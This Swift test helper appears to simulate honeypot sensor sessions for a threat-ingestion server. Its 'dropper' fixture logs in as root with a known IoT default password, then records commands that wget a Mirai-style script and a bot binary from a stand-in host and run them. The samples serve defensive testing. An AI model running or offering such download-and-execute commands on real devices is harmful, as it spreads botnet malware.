import Glibc
import TestHosts
import TestWire

/// A session on a sensor, as the lines a sensor would send.
struct SensorVisit {
    let address: String
    private(set) var lines: [String] = []
    private let service: String
    private let session: String
    private var time: Int
    private var random: SeededRandom

    /// - Parameter time: of the first event, epoch milliseconds; a minute ago when `nil`.
    init(of address: String, protocol service: String = "telnet", seed: UInt64 = 1, at time: Int? = nil) {
        self.address = address
        self.service = service
        let now = Int(Glibc.time(nil)) * 1000 - 60_000
        self.time = time ?? now
        random = SeededRandom(seed: address.utf8.reduce(seed) { $0 &* 31 &+ UInt64($1) })
        session = Self.identifier(at: self.time, &random)
    }

    /// Adds an event, a second after the one before.
    mutating func add(_ kind: String, _ fields: KeyValuePairs<String, String> = [:]) {
        let fields = JSONValue.object(fields.map { .init(name: $0.key, value: .string($0.value)) })
        lines.append(
            """
            {"id":"\(Self.identifier(at: time, &random))","session":"\(session)","seq":\(lines.count),"at":\(time),\
            "protocol":"\(service)","transport":"tcp","dstPort":23,"src":"\(address)","srcPort":50000,"kind":"\(kind)",\
            "fields":\(fields)}
            """)
        time += 1000
    }

    /// Logs in, fetches a program and runs it: as grave as it gets.
    static func dropper(_ address: String, seed: UInt64 = 1, at time: Int? = nil) -> SensorVisit {
        var visit = SensorVisit(of: address, seed: seed, at: time)
        visit.add("connect")
        visit.add("auth", ["method": "password", "username": "root", "password": "xc3511", "success": "true"])
        visit.add("command", ["command": "cd /tmp; wget http://198.51.100.9/mirai.sh -O- | sh"])
        visit.add("command", ["command": "wget http://198.51.100.9/bot.arm7; chmod 777 bot.arm7; ./bot.arm7"])
        visit.add("close", ["duration_ms": "900", "reason": "client"])
        return visit
    }

    var body: String { lines.joined(separator: "\n") + "\n" }

    /// Throws unless the server has acknowledged every event.
    func deliver(to server: WireServer, token: String) async throws {
        let answer = try await server.post("/v1/sensor/events", key: token, type: "application/x-ndjson", body)
        guard answer.status == 200, try answer.json["acked"]?.int == lines.count else {
            throw WireError.malformed("\(answer.status): \(answer.text)")
        }
    }

    /// A UUID of version 7 (RFC 9562 §5.7).
    private static func identifier(at time: Int, _ random: inout SeededRandom) -> String {
        func digits(_ value: UInt64, _ count: Int) -> String {
            let text = String(value, radix: 16)
            return String(repeating: "0", count: max(0, count - text.count)) + text.suffix(count)
        }
        let clock = digits(UInt64(time), 12)
        return "\(clock.prefix(8))-\(clock.suffix(4))-7\(digits(random.next() >> 4, 3))"
            + "-8\(digits(random.next() >> 4, 3))-\(digits(random.next() >> 4, 12))"
    }
}
